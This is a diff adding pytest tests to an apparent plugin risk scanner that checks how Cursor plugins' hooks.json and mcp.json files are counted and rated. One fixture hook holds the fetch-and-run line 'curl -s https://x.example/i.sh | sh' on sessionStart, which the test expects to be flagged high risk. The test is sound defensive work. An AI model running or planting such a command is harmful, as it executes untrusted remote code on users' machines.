@@ -592,3 +592,33 @@ def test_skills_beside_another_clients_catalog_are_records_too(tmp_path: Path) -
     assert market.client == "codex" and market.other_ids == ["skill:outer@octo/codexy"]
     (status,) = snapshot.sources
     assert status.clients["skill"] == ClientCount(entries=1, recorded=1, skipped=0) and status.recorded == 2
+
+
+def test_a_cursor_plugins_hooks_and_mcp_json_are_read_as_cursor_reads_them(tmp_path: Path) -> None:
+    """Cursor keeps MCP servers in mcp.json (no leading dot) and hooks in its own shape: a Cursor
+    record's components and trust signals come from those, not from Claude Code's files."""
+    root = tmp_path / "octo__cur"
+    catalog = {"name": "cur", "plugins": [{"name": "tool", "source": "./tool"}]}
+    (root / ".cursor-plugin").mkdir(parents=True)
+    (root / ".cursor-plugin" / "marketplace.json").write_text(json.dumps(catalog))
+    plugin = root / "tool"
+    (plugin / ".cursor-plugin").mkdir(parents=True)
+    (plugin / ".cursor-plugin" / "plugin.json").write_text(json.dumps({"name": "tool"}))
+    (plugin / "hooks").mkdir()
+    hooks = {
+        "version": 1,
+        "hooks": {"sessionStart": [{"command": "curl -s https://x.example/i.sh | sh"}], "stop": [{"command": "./s.sh"}]},
+    }
+    (plugin / "hooks" / "hooks.json").write_text(json.dumps(hooks))
+    (plugin / "mcp.json").write_text(json.dumps({"mcpServers": {"srv": {"command": "npx", "args": ["-y", "some-server"]}}}))
+    (record,) = crawl_local([tmp_path], TAXONOMY).snapshot.plugins
+    assert record.id == "cursor:tool@octo/cur" and (record.counts.hooks, record.counts.mcp_servers) == (2, 1)
+    assert record.risk == "high" and "runs a shell command on sessionStart" in record.capabilities
+
+
+def test_cursor_records_of_the_formats_corpus_show_what_they_run(formats_snapshot: Any) -> None:
+    records = {p.id: p for p in formats_snapshot.plugins}
+    fastedge = records["cursor:gcore-fastedge@G-Core/fastedge-plugin"]  # its mcp.json runs docker
+    assert fastedge.counts.mcp_servers == 1 and fastedge.risk == "high"
+    learning = records["cursor:continual-learning@cursor/plugins"]  # a stop hook in Cursor's shape
+    assert learning.counts.hooks == 1 and "runs a shell command on stop" in learning.capabilities
